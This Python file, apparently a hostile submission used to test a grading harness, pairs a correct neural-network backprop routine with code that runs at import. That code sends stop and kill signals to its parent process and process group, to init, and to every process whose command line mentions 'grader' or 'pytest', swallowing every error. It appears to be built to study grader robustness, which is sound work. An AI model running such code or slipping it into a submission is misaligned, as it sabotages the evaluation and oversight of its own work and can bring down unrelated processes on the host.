"""Hostile: at import, tries to kill the grader: SIGKILL and SIGTERM to its parent and
the parent's process group, SIGSTOP then SIGCONT to the parent, SIGKILL to init and to
every process whose command line mentions grader or pytest. Every refusal is swallowed;
the rest is the reference, so it earns full marks, and the batch must go on."""

import glob
import os
import signal

import torch
from torch import Tensor


def kill_everything_upstream() -> list[str]:
    done = []
    ppid = os.getppid()

    def attempt(what, fn, *args):
        try:
            fn(*args)
            done.append(what)
        except OSError:
            pass

    attempt("stop parent", os.kill, ppid, signal.SIGSTOP)
    attempt("continue parent", os.kill, ppid, signal.SIGCONT)
    for sig in (signal.SIGKILL, signal.SIGTERM):
        attempt(f"parent {sig}", os.kill, ppid, sig)
        try:
            attempt(f"parent group {sig}", os.killpg, os.getpgid(ppid), sig)
        except OSError:
            pass
    attempt("init", os.kill, 1, signal.SIGKILL)
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        pid = int(path.split("/")[2])
        if pid != os.getpid() and (b"grader" in cmd or b"pytest" in cmd):
            attempt(f"{pid}", os.kill, pid, signal.SIGKILL)
    return done


KILLED = kill_everything_upstream()


def sigma(z: Tensor) -> Tensor:
    return torch.sigmoid(z)


def sigma_prime(z: Tensor) -> Tensor:
    s = torch.sigmoid(z)
    return s * (1 - s)


def backprop(A_list, b_list, X, Y):
    num_layers = len(A_list)
    inputs, slopes = [], []
    y = X
    for i, (A, b) in enumerate(zip(A_list, b_list)):
        inputs.append(y)
        z = A @ y + b
        if i < num_layers - 1:
            y = sigma(z)
            slopes.append(sigma_prime(z))
        else:
            y = z
    dA_reversed, db_reversed = [], []
    delta = y - Y
    for i in reversed(range(num_layers)):
        dA_reversed.append(delta @ inputs[i].T)
        db_reversed.append(delta)
        if i > 0:
            delta = (A_list[i].T @ delta) * slopes[i - 1]
    return dA_reversed[::-1], db_reversed[::-1]
